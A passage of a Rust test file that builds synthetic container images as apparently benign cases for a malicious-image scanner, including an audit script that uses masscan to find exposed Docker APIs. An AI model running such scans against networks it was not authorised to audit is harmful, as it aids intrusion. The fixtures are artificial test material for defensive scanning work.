                            "Go build ID: \"pN3rQ8vW2xZ5yB7cD9eF/aG1hJ3kL5mN7pQ9rS2t\"",
                            "nats-server: v2.10.12",
                            "github.com/nats-io/nats-server/v2/server",
                        ]),
                    )
                    .file(
                        "nats-server.conf",
                        "# Client port of 4222 on all interfaces\nport: 4222\n\n# HTTP monitoring port\nmonitor_port: 8222\n\n# This is for clustering multiple servers together.\ncluster {\n  name: \"NATS\"\n  listen: 0.0.0.0:6222\n  authorization {\n    user: ruser\n    password: T0pS3cr3t\n    timeout: 2\n  }\n  routes = []\n}\n",
                    ),
            )
            .entrypoint(&["/nats-server"])
            .cmd(&["--config", "nats-server.conf"]),
    ));
    cases.push(Case::new(
        "library/bash",
        Allow,
        "short official name (4 letters)",
        Image::new()
            .layer(alpine_base())
            .layer(
                Layer::new(Compression::Gzip)
                    .exec("usr/local/bin/bash", elf(3, 29, 211, 24_000, &["GNU bash, version %s-(%s)", "HISTFILE", "history [-c] [-d offset] [n] or history -anrw [filename] or history -ps arg [arg...]"]))
                    .exec(
                        "usr/local/bin/docker-entrypoint.sh",
                        "#!/usr/bin/env bash\nset -Eeuo pipefail\n\n# first arg is `-f` or `--some-option`\n# or there are no args\nif [ \"$#\" -eq 0 ] || [ \"${1#-}\" != \"$1\" ]; then\n\t# docker run bash -c 'echo hi'\n\texec bash \"$@\"\nfi\n\nexec \"$@\"\n",
                    ),
            )
            .entrypoint(&["docker-entrypoint.sh"])
            .cmd(&["bash"])
            .env("_BASH_VERSION=5.2.26"),
    ));
    cases.push(Case::new(
        "library/php",
        Allow,
        "short official name (3 letters); history downloads sources with curl",
        Image::new()
            .layer(debian_base(DEBIAN_OS_RELEASE, 10))
            .layer(
                Layer::new(Compression::Gzip)
                    .exec("usr/local/bin/php", elf(2, 30, 212, 30_000, &["PHP %s (%s) (built: %s) (%s)", "Zend Engine v%s"]))
                    .exec(
                        "usr/local/bin/docker-php-source",
                        "#!/bin/sh\nset -e\n\ndir=/usr/src/php\n\nusage() {\n\techo \"usage: $0 COMMAND\"\n\techo\n\techo \"Manage php source tarball lifecycle.\"\n}\n\ncase \"$1\" in\n\textract)\n\t\tmkdir -p \"$dir\"\n\t\tif [ ! -f \"$dir/.docker-extracted\" ]; then\n\t\t\ttar -Jxf /usr/src/php.tar.xz -C \"$dir\" --strip-components=1\n\t\t\ttouch \"$dir/.docker-extracted\"\n\t\tfi\n\t\t;;\n\tdelete)\n\t\trm -rf \"$dir\"\n\t\t;;\n\t*)\n\t\tusage\n\t\texit 1\n\t\t;;\nesac\n",
                    )
                    .exec(
                        "usr/local/bin/docker-php-entrypoint",
                        "#!/bin/sh\nset -e\n\n# first arg is `-f` or `--some-option`\nif [ \"${1#-}\" != \"$1\" ]; then\n\tset -- php \"$@\"\nfi\n\nexec \"$@\"\n",
                    ),
            )
            .entrypoint(&["docker-php-entrypoint"])
            .cmd(&["php", "-a"])
            .env("PHPIZE_DEPS=autoconf \t\tdpkg-dev \t\tfile \t\tg++ \t\tgcc \t\tlibc-dev \t\tmake \t\tpkg-config \t\tre2c")
            .env("PHP_INI_DIR=/usr/local/etc/php")
            .env("GPG_KEYS=1198C0117593497A5EC5C199286AF1F9897469DC C28D937575603EB4ABB725861C0779DC5C0A9DE4 AFD8691FDAEDF03BDF6E460563F15A9B715376CA")
            .env("PHP_VERSION=8.3.4")
            .env("PHP_URL=https://www.php.net/distributions/php-8.3.4.tar.xz")
            .history(&[
                "/bin/sh -c #(nop) ADD file:b86ae1c7ca3586d8feedcd9ff1b2b1e8ab872caf6587618f1da689045a5d7ae4 in / ",
                "RUN /bin/sh -c set -eux; savedAptMark=\"$(apt-mark showmanual)\"; apt-get update; apt-get install -y --no-install-recommends gnupg; rm -rf /var/lib/apt/lists/*; mkdir -p /usr/src; cd /usr/src; curl -fsSL -o php.tar.xz \"$PHP_URL\"; if [ -n \"$PHP_SHA256\" ]; then echo \"$PHP_SHA256 *php.tar.xz\" | sha256sum -c -; fi; # buildkit",
                "ENTRYPOINT [\"docker-php-entrypoint\"]",
                "CMD [\"php\" \"-a\"]",
            ]),
    ));
    cases.push(Case::new(
        "hashicorp/vault",
        Allow,
        "verified publisher whose repository is a removed official name",
        Image::new()
            .layer(alpine_base())
            .layer(
                Layer::new(Compression::Gzip)
                    .exec("bin/vault", elf(2, 26, 213, 30_000, &["Vault v1.15.6", "github.com/hashicorp/vault/command"]))
                    .exec(
                        "usr/local/bin/docker-entrypoint.sh",
                        "#!/usr/bin/dumb-init /bin/sh\nset -e\n\n# Note above that we run dumb-init as PID 1 in order to reap zombie processes\n# as well as forward signals to all processes in its session.\n\nVAULT_CONFIG_DIR=/vault/config\n\nif [ \"$1\" = 'server' ]; then\n    shift\n    set -- vault server -config=\"$VAULT_CONFIG_DIR\" \"$@\"\nfi\n\nif [ \"$1\" = 'vault' ]; then\n    if [ -z \"$SKIP_CHOWN\" ]; then\n        chown -R vault:vault /vault/config || echo \"Could not chown /vault/config\"\n    fi\n    if [ -z \"$SKIP_SETCAP\" ]; then\n        setcap cap_ipc_lock=+ep $(readlink -f /bin/vault)\n    fi\n    set -- su-exec vault \"$@\"\nfi\n\nexec \"$@\"\n",
                    ),
            )
            .entrypoint(&["docker-entrypoint.sh"])
            .cmd(&["server", "-dev"])
            .env("NAME=vault")
            .env("VERSION=1.15.6"),
    ));
    cases.push(Case::new(
        "library/ubuntu",
        Allow,
        "official ubuntu with an ordinary root file system (dynamic linker naming /etc/ld.so.preload, root's .bashrc)",
        ubuntu(),
    ));
    cases.push(Case::new(
        "library/eclipse-temurin",
        Allow,
        "official JRE that openjdk squats copy; history downloads with wget",
        temurin(),
    ));
    cases.push(Case::new(
        "circleci/node",
        Allow,
        "official name under a known CI vendor namespace",
        Image::new()
            .layer(debian_base(UBUNTU_OS_RELEASE, 20))
            .layer(Layer::new(Compression::Gzip).exec(
                "usr/local/bin/node",
                elf(2, 30, 214, 20_000, &["node v20.11.1"]),
            ))
            .cmd(&["node"]),
    ));
    cases.push(Case::new(
        "myorg/config-sidecar",
        Allow,
        "Cmd base64-decodes a config from Env into a file (not into a shell)",
        Image::new()
            .layer(alpine_base())
            .layer(Layer::new(Compression::Gzip).exec("usr/local/bin/app", elf(2, 25, 215, 8000, &["Usage: app --config FILE"])))
            .env(&format!(
                "APP_CONFIG_B64={}",
                base64_std("listen: 0.0.0.0:8080\nupstream: http://backend:9000\nlog_level: info\nworkers: 4\n")
            ))
            .cmd(&["/bin/sh", "-c", "echo \"$APP_CONFIG_B64\" | base64 -d > /etc/app.yaml && exec /usr/local/bin/app --config /etc/app.yaml"]),
    ));
    cases.push(Case::new(
        "linuxserver/openssh-server",
        Allow,
        "SSH server whose init script writes a user-supplied key to authorized_keys at run time (none baked in)",
        Image::new()
            .layer(alpine_base())
            .layer(
                Layer::new(Compression::Gzip)
                    .file("etc/ssh/sshd_config", "Port 2222\nPermitRootLogin no\nPasswordAuthentication no\nAuthorizedKeysFile .ssh/authorized_keys\nSubsystem sftp internal-sftp\n")
                    .exec(
                        "etc/s6-overlay/s6-rc.d/init-openssh-server-config/run",
                        "#!/usr/bin/with-contenv bash\n# shellcheck shell=bash\n\nmkdir -p /config/{.ssh,ssh_host_keys,logs/openssh}\n\nif [[ -n \"$PUBLIC_KEY\" ]] && ! grep -q \"${PUBLIC_KEY}\" /config/.ssh/authorized_keys; then\n    echo \"$PUBLIC_KEY\" >> /config/.ssh/authorized_keys\n    echo \"Public key from env variable added\"\nfi\n\n# set key auth in file\nif [[ ! -f /config/.ssh/authorized_keys ]]; then\n    touch /config/.ssh/authorized_keys\nfi\n\nchmod go-w /config\nchmod 700 /config/.ssh\nchmod 600 /config/.ssh/authorized_keys\n",
                    )
                    .exec("init", "#!/bin/sh\nexec /package/admin/s6-overlay/command/s6-svscan /run/service\n"),
            )
            .entrypoint(&["/init"])
            .no_cmd()
            .env("PUID=1000")
            .env("PGID=1000"),
    ));
    cases.push(Case::new(
        "webteam/storefront",
        Allow,
        "Node app: a minified bundle with wallet-shaped base58 runs (bad checksums) and a DB config with pools/url/user",
        Image::new()
            .layer(alpine_base())
            .layer(
                Layer::new(Compression::Gzip)
                    .file("app/dist/main.js", {
                        // Base58 runs that look like addresses but fail the checksum (key
                        // material, hashes in minified JS).
                        let mut js = String::from("!function(){\"use strict\";var e={");
                        for i in 0..6u64 {
                            let junk: String = noise(300 + i, 94)
                                .iter()
                                .map(|b| B58[*b as usize % 58] as char)
                                .collect();
                            js.push_str(&format!("k{i}:\"4{junk}\","));
                        }
                        js.push_str("n:1};window.__APP__=e}();\n");
                        js
                    })
                    .file(
                        "app/config/database.json",
                        "{\"pools\": [{\"url\": \"postgres://db:5432/store\", \"user\": \"store\", \"max\": 10}], \"ssl\": false}\n",
                    )
                    .file("app/package.json", "{\"name\": \"storefront\", \"version\": \"3.2.0\", \"scripts\": {\"start\": \"node dist/main.js\"}}\n"),
            )
            .cmd(&["node", "/app/dist/main.js"])
            .env("NODE_ENV=production"),
    ));
    cases.push(Case::new(
        "secops/docker-exposure-audit",
        Allow,
        "audit tooling: masscan for open Docker APIs, then only GET /version; a CI script running builds on a dind service",
        Image::new()
            .layer(alpine_base())
            .layer(
                Layer::new(Compression::Gzip)
                    .exec(
                        "usr/local/bin/audit.sh",
                        "#!/bin/sh\n# Report Docker Engine APIs reachable without TLS in our own ranges.\nset -eu\nmasscan -p2375 --rate 500 \"$AUDIT_RANGES\" -oL /tmp/open.txt\nawk '/open/ {print $4}' /tmp/open.txt | while read ip; do\n  curl -s --max-time 5 \"http://$ip:2375/version\" | jq -c --arg ip \"$ip\" '{ip: $ip, version: .Version}'\ndone\n",
                    )
                    .exec(
                        "usr/local/bin/ci-build.sh",
                        "#!/bin/sh\nset -e\nexport DOCKER_HOST=tcp://docker:2375\ndocker -H tcp://docker:2375 build -t \"$CI_REGISTRY_IMAGE:$CI_COMMIT_SHA\" .\ndocker -H tcp://docker:2375 run --rm \"$CI_REGISTRY_IMAGE:$CI_COMMIT_SHA\" make test\n",
                    ),
            )
            .cmd(&["/usr/local/bin/audit.sh"])
            .env("AUDIT_RANGES=10.0.0.0/8"),
    ));
    cases.push(Case::new(
        "library/docker",
        Allow,
        "docker:dind: dockerd and the docker CLI in /usr/local/bin, an entrypoint loading kernel modules",
        Image::new()
            .layer(alpine_base())
            .layer(
                Layer::new(Compression::Gzip)
                    .exec("usr/local/bin/dockerd", elf(2, 30, 216, 30_000, &["Docker version %s, build %s", "github.com/docker/docker/daemon"]))
                    .exec("usr/local/bin/docker", elf(2, 30, 217, 20_000, &["Usage:  docker [OPTIONS] COMMAND", "-H, --host list            Daemon socket(s) to connect to"]))
                    .exec(
                        "usr/local/bin/dockerd-entrypoint.sh",
                        "#!/bin/sh\nset -eu\n\n_tls_ensure_private() {\n\tlocal f=\"$1\"; shift\n\t[ -s \"$f\" ] || openssl genrsa -out \"$f\" 4096\n}\n\nif [ \"$#\" -eq 0 ] || [ \"${1#-}\" != \"$1\" ]; then\n\tset -- dockerd --host=unix:///var/run/docker.sock --host=tcp://0.0.0.0:2376 \"$@\"\nfi\n\nif [ \"$1\" = 'dockerd' ]; then\n\t# explicitly remove Docker's default PID file to ensure that it can start properly if it was stopped uncleanly\n\tfind /run /var/run -iname 'docker*.pid' -delete || :\n\n\tif ! iptables -nL > /dev/null 2>&1; then\n\t\t# if iptables fails to run, chances are high the necessary kernel modules aren't loaded\n\t\tmodprobe ip_tables || :\n\tfi\n\n\t# XXX inject \"docker-init\" (tini) as pid1 to workaround https://github.com/docker-library/docker/issues/318\n\tset -- docker-init -- \"$@\"\nfi\n\nexec \"$@\"\n",
                    ),
            )
            .entrypoint(&["dockerd-entrypoint.sh"])
            .no_cmd()
            .env("DOCKER_VERSION=25.0.4")
            .env("DOCKER_TLS_CERTDIR=/certs"),
    ));
    cases
}

fn base64_std(text: &str) -> String {
    use base64::Engine as _;
    base64::engine::general_purpose::STANDARD.encode(text)
}
